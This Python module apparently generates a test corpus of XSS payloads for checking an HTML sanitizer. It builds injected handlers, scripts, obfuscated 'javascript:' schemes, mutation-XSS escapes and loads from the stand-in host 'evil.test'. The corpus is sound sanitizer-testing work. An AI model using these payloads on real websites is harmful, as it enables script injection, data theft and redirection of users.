"""Markup that wants to run: made from tables of elements, attributes, schemes and ways in which parsers disagree.

Whatever runs calls `hit()`, and whatever loads asks for BAD.
"""

from __future__ import annotations

from collections.abc import Iterator
from html import escape
from itertools import product

BAD = "http://evil.test/bad"
RUN = "hit()"
IMG = f"<img src=x onerror={RUN}>"

# -- elements that run, load, send or lead elsewhere by themselves

HANDLERS = (
    "onerror onload onclick onfocus onblur onmouseover onpointerenter ontoggle onbegin onend onrepeat "
    "onanimationstart onanimationend ontransitionend onscroll onwheel oncopy onpaste oninput onchange "
    "onsubmit onreset oninvalid onkeydown onresize onhashchange onpageshow onmessage oncuechange "
    "ondurationchange onloadstart onplay onfinish onbounce onstart onbeforetoggle "
    "oncontentvisibilityautostatechange onscrollend onsecuritypolicyviolation "
).split()
CARRIERS = (
    "p div span a b img svg body html input button details video audio marquee object iframe form select textarea "
    "table td li h1 h2 figure figcaption blockquote pre code math section article x-a"
).split()
SYNTAX = (
    '<{tag} {on}="{run}">', "<{tag} {on}='{run}'>", "<{tag} {on}={run}>", "<{tag}/{on}={run}>",
    "<{tag}\n{on}\n=\n{run}>", '<{tag} x="a>b" {on}={run}>', "<{tag} a=`b {on}={run}>",
    "<{tag} {ON} = {run} autofocus tabindex=0>", "<{tag}\x0c{on}={run}//>", '<{tag} "" {on}={run}>',
    "<{tag} \x00{on}={run}>", '<{tag} a="b"{on}={run}>',
)  # fmt: skip
ACTIVE = {
    "script": f"<script>{RUN}</script>",
    "script capitals": f"<ScRiPt>{RUN}</sCrIpT>",
    "script source": f"<script src={BAD}></script>",
    "script slash": f"<script/x>{RUN}</script/x>",
    "script unclosed": f"<script>{RUN}",
    "script split": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script in a comment": f"<!--<script>-->{IMG}<!--</script>-->",
    "script module": f"<script type=module>{RUN}</script>",
    "script of a drawing": f"<svg><script>{RUN}</script></svg>",
    "script link of a drawing": f"<svg><script href={BAD} /></svg>",
    "script of a formula": f"<math><script>{RUN}</script></math>",
    "script prefixed": f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">{RUN}</x:script>',
    "frame": f"<iframe src={BAD}></iframe>",
    "frame with a document": f'<iframe srcdoc="&lt;script&gt;parent.{RUN}&lt;/script&gt;"></iframe>',
    "frame set": f"<frameset onload={RUN}><frame src={BAD}></frameset>",
    "fenced frame": f"<fencedframe src={BAD}></fencedframe><portal src={BAD}></portal>",
    "object": f"<object data={BAD} type=text/html></object>",
    "object with a movie": f'<object><param name=movie value="{BAD}"><embed src={BAD}></object>',
    "embed": f"<embed src={BAD} code={BAD}>",
    "applet": f"<applet code=A archive={BAD}></applet>",
    "form": f"<form action={BAD}><input name=a value=b><button>Go</button></form>",
    "form by attributes": f"<button form=f formaction={BAD}>Go</button><form id=f></form>",
    "image button": f"<input type=image src={BAD} formaction=javascript:{RUN}>",
    "field with focus": f"<input autofocus onfocus={RUN}><select autofocus onfocus={RUN}></select>",
    "key maker": f"<keygen autofocus onfocus={RUN}>",
    "base": f"<base href={BAD}/ target=_top>",
    "refresh": f'<meta http-equiv=refresh content="0;url={BAD}">',
    "refresh to script": f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    "policy": "<meta http-equiv=content-security-policy content=\"script-src 'unsafe-inline'\">",
    "style sheet": f"<link rel=stylesheet href={BAD}><style>@import '{BAD}';</style>",
    "style element": f"<style>p {{ background: url({BAD}) }}</style>",
    "style attribute": f'<p style="background:url({BAD});position:fixed;inset:0">Text</p>',
    "style expression": f'<p style="width:expression({RUN});-moz-binding:url({BAD})">Text</p>',
    "preload": f"<link rel=preload as=script href={BAD}><link rel=prefetch href={BAD}><link rel=import href={BAD}>",
    "manifest": f"<html manifest={BAD}><body background={BAD}>",
    "ping": f"<a href=https://a.example/ ping={BAD}>Link</a>",
    "target": "<a href=https://a.example/ target=_top download>Link</a>",
    "map": f"<img usemap=#m src=a.png><map name=m><area shape=default href=javascript:{RUN}></map>",
    "picture": f'<picture><source srcset="{BAD}"><img src=data:image/svg+xml,x onload={RUN}></picture>',
    "video": f"<video src={BAD} poster=javascript:{RUN} autoplay></video><audio src={BAD} autoplay></audio>",
    "track": f"<video><source onerror={RUN} src=x><track default src={BAD}></video>",
    "details": f"<details open ontoggle={RUN}><summary>More</summary>Text</details>",
    "dialog": f"<dialog open onclose={RUN}><form method=dialog><button>Close</button></form></dialog>",
    "popover": f"<button popovertarget=p>Open</button><div popover id=p onbeforetoggle={RUN}>Text</div>",
    "command": f"<button commandfor=p command=show-modal oncommand={RUN}>Open</button>",
    "marquee": f"<marquee onstart={RUN} onbounce={RUN}>Text</marquee>",
    "template": f"<template><script>{RUN}</script>{IMG}</template>",
    "shadow root": f"<div><template shadowrootmode=open><script>{RUN}</script><p>{IMG}</template></div>",
    "slot": f"<slot name=a onslotchange={RUN}>Text</slot><p is=x-p part=a exportparts=a>Text</p>",
    "use": "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>hit()"
    '</script></svg>#x"/></svg>',
    "animate": f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=20>Click</text></a></svg>",
    "set": f"<svg><a><set attributeName=href to=javascript:{RUN}><text>Click</text></a></svg>",
    "drawing link": f"<svg><a xlink:href=javascript:{RUN}><text>Click</text></a></svg>",
    "drawing image": f"<svg><image href={BAD} onload={RUN} /><feImage href={BAD} /></svg>",
    "drawing handler": f"<svg onload={RUN}><g onload={RUN}></g></svg>",
    "foreign object": f"<svg><foreignObject><iframe src={BAD}></iframe>{IMG}</foreignObject></svg>",
    "formula link": f"<math href=javascript:{RUN}><mi href=javascript:{RUN}>x</mi></math>",
    "formula action": f'<math><maction actiontype="statusline#{BAD}" xlink:href=javascript:{RUN}>x</maction></math>',
    "annotation": f"<math><annotation-xml encoding=text/html>{IMG}<script>{RUN}</script></annotation-xml></math>",
    "processing": f"<?xml-stylesheet href={BAD}?><!DOCTYPE x [<!ENTITY e '{RUN}'>]>&e;",
    "layer": f"<layer src={BAD}></layer><ilayer src={BAD}></ilayer><bgsound src={BAD}><xml src={BAD}></xml>",
    "names": "<img name=body><form id=ui-article name=getElementById><input name=attributes></form>"
    "<a id=location>a</a>",
}

# -- schemes that run, and how they hide from whoever looks for them

SCHEMES = (
    "javascript:hit()", "vbscript:hit()", "livescript:hit()", "mocha:hit()", "data:text/html,<script>hit()</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=hit()>",
    "data:application/xhtml+xml,<a/>", "data:,hit()", "blob:http://evil.test/0", "filesystem:http://evil.test/a",
    "view-source:javascript:hit()", "feed:javascript:hit()", "jar:javascript:hit()!/a", "file:///etc/passwd",
    "about:blank", "chrome://settings", "moz-extension://a/b", "chrome-extension://a/b", "intent://a#Intent;end",
    "ms-word:ofe|u|a", "tel:+1", "sms:+1", "ftp://a.example/", "ws://a.example/", "x-javascript:hit()", "urn:a:b",
    "mailto-x:hit()", "httpx://a.example/", "https-javascript:hit()", "javascript://a.example/%0ahit()",
    "java\tscript:hit()", "java\nscript:hit()", "java\r\nscript:hit()", "\x01javascript:hit()", " javascript:hit()",
    "\x1fjavascript:hit()", "jAvAsCrIpT:hit()", "javascript :hit()", "javascript&colon;hit()", "javascript&#58;hit()",
    "&#106;avascript:hit()", "&#x6A&#x61&#x76&#x61script:hit()", "&#0000106avascript:hit()", "java&Tab;script:hit()",
    "java&NewLine;script:hit()", "java&#10;script:hit()", "java&#x00;script:hit()", "java\x00script:hit()",
    "\u00a0javascript:hit()", "\u2028javascript:hit()", "\ufeffjavascript:hit()", "\u200bjavascript:hit()",
    "javascript\u200b:hit()", "ｊavascript:hit()", "javaſcript:hit()", "javascript\uff1ahit()", "//javascript:hit()",
    "/\\evil.test/", "\\\\evil.test\\a", "http:javascript:hit()", "https://a.example/\" onerror=hit() x=\"",
    "https://a.example/' onerror=hit() x='", "https://a.example/><script>hit()</script>",
    "https://a.example/`onerror=hit()", "https://a.example/) <img src=x onerror=hit()>",
    "https://a.example/)![x](javascript:hit())", "https://a.example/ \"a\"",
    "https://a.example/\n\n<img src=x onerror=hit()>", "https://[javascript:hit()]/", "https://a@b:c@d/", "http://",
    "https://a.example:99999/", "mailto:a@a.example?body=<script>hit()</script>", "mailto:javascript:hit()", "?", "#",
)  # fmt: skip
LEADING = (
    '<a href="{}">Link</a>', "<a href='{}'>Link</a>", '<a href="https://a.example/" href="{}">Link</a>',
    '<img src="{}" alt="Picture" width=600 height=400>', '<img srcset="{} 2x" data-src="{}" alt="Picture" width=600>',
    '<figure><img data-original="{}" width=600><figcaption>Caption</figcaption></figure>',
    '<p>A line with <a href="{}"><b>bold</b> words</a> in it.</p>', '<ul><li><a href="{}">Item</a></ul>',
    '<table><tr><td><a href="{}">Cell</a></table>', '<svg><a xlink:href="{}"><text>Text</text></a></svg>',
    '<iframe src="{}" data-src="{}" title="Video"></iframe>', '<blockquote cite="{}">Quote</blockquote>',
    '<video poster="{}" src="{}"></video>', '<object data="{}"></object>',
    '<form action="{}"><button formaction="{}">Go', '<base href="{}"><a href="a">Link</a>',
)  # fmt: skip

# -- what parsers read differently the second time

STRANGE = (
    "svg", "math", "svg><foreignObject", "svg><desc", "svg><title", "math><mtext", "math><mi", "math><annotation-xml",
    "math><annotation-xml encoding=text/html", "table", "table><caption", "table><colgroup", "select",
    "form><math><mtext></form", "noscript", "template", "p><table><svg", "a><table><a", "button><svg", "option><math",
    "svg><g><math", "math><mglyph",
)  # fmt: skip
RAW = (
    "style", "script", "title", "textarea", "noscript", "noembed", "noframes", "iframe", "xmp", "plaintext", "listing",
    "template", "select", "option", "mglyph", "malignmark", "desc", "foreignObject", "annotation-xml", "![CDATA[",
    "!--", "!-->", "?x",
)  # fmt: skip
ESCAPES = (
    '<a id="</{raw}>{img}">', "<a title='</{raw}>{img}'>", "</{raw}>{img}", "<!--</{raw}>{img}-->",
    "<!--><{raw}></{raw}>{img}", '<img title="--></{raw}>{img}">', '<{raw}><p title="</{raw}>{img}">',
    "&lt;/{raw}&gt;{esc}", "<![CDATA[</{raw}>{img}]]>", "<p></{raw}>{img}</p>", '<img alt="{esc}" title="{esc}">',
    "<{raw}>&lt;/{raw}&gt;{esc}</{raw}>",
)  # fmt: skip

# -- text that some format could take for markup

TEXTS = (
    IMG, f"<script>{RUN}</script>", f"</p>{IMG}", f'">{IMG}', f"'>{IMG}", f"--></style></title>{IMG}",
    f"<a href=javascript:{RUN}>x", "[x](javascript:hit())", "![x](javascript:hit())", "[x]: javascript:hit()",
    "[x]\n\n[x]: javascript:hit()", "<javascript:hit()>", "[x](<javascript:hit()>)", "[x](java&#115;cript:hit())",
    "[a](https://a.example \"b\")",
    "![a](https://a.example/x.png 'a' onerror=hit())", f"`</code>{IMG}`", f"```\n{IMG}", f"~~~\n{IMG}\n~~~",
    f"    {IMG}", f"# {IMG}", f"> {IMG}", f"- {IMG}", f"1. {IMG}", f"| {IMG} |\n|---|", "a\n===", "a\n---", "***\n---",
    "&lt;img src=x&gt;",
    "&#60;img src=x onerror=hit()&#62;", f"\\{IMG}", f"\\\\{IMG}", f"&{IMG}", f"**{IMG}**", f"[{IMG}](https://a.example)",
    "<https://a.example/ onclick=hit()>", "<!-- a --><b>", f"<!-- {IMG} -->", "<?php hit() ?>", "<![CDATA[hit()]]>",
    "<!DOCTYPE html>", "{{hit()}}", "${hit()}", "<%= hit() %>", "[[x]]", ":::x", "$$hit()$$", "^[x](javascript:hit())",
    "<x-a onclick=hit()>", "</article>", "</html>", "<style>*{display:none}</style>", "\u202e<script>\u202c",
    "<\u200bscript>",
)  # fmt: skip
HOLDERS = (
    "<p>{}</p>", "<h1>{}</h1>", "<h3>{}</h3>", "<ul><li>{}</ul>", "<ol><li>{}</ol>", "<table><tr><th>{}<td>{}</table>",
    "<blockquote>{}</blockquote>", "<pre>{}</pre>", "<p>In <code>{}</code> it says.</p>",
    "<p><b>{}</b> and <i>{}</i></p>", '<p><a href="https://a.example/">{}</a></p>',
    '<figure><img src=/a.png alt="{}"><figcaption>{}</figcaption></figure>', '<img src="/{}.png" alt="{}" width=600>',
    "<title>{}</title>", '<p title="{}" class="{}" id="{}">Text</p>', '<p lang="{}" dir="{}">Text</p>',
    '<div class="newsletter {}"><p>Newsletter: {}</p><input type=email></div>',
    '<meta property="og:title" content="{}"><meta name="author" content="{}">',
    '<meta property="og:site_name" content="{}">',
    '<link rel=canonical href="{}"><meta property="og:image" content="{}"><html lang="{}" dir="{}">',
)  # fmt: skip


def payloads() -> Iterator[tuple[str, str]]:
    """Every one's name and markup."""
    yield from ACTIVE.items()
    for number, (tag, syntax) in enumerate(product(CARRIERS, SYNTAX)):
        on = HANDLERS[number % len(HANDLERS)]
        markup = syntax.format(tag=tag, on=on, ON=on.upper(), run=RUN)
        yield f"handler {on} on {tag} {number}", f"{markup}Text</{tag}>"
    for on in HANDLERS:
        yield f"handler {on}", f'<p {on}="{RUN}">Text</p><svg {on}="{RUN}"><a {on}={RUN}>Text</a></svg>'
    for number, (scheme, leading) in enumerate(product(SCHEMES, LEADING)):
        yield f"scheme {number} {scheme[:20]!r}", leading.replace("{}", scheme.replace('"', "&quot;"))
    for pair, (strange, raw) in enumerate(product(STRANGE, RAW)):
        for number, way in enumerate(ESCAPES):
            if (pair + number) % 2:
                continue
            opening = f"<{strange}><{raw}" + ("" if raw[0] in "!?" else ">")
            closing = way.format(raw=raw.strip("!?[-x") or "style", img=IMG, esc=escape(IMG))
            yield f"mutation {strange} {raw} {number}", opening + closing
    for number, (text, holder) in enumerate(product(TEXTS, HOLDERS)):
        yield f"text {number}", holder.replace("{}", escape(text))
        if number % 3 == 0:
            yield f"text unescaped {number}", holder.replace("{}", text)
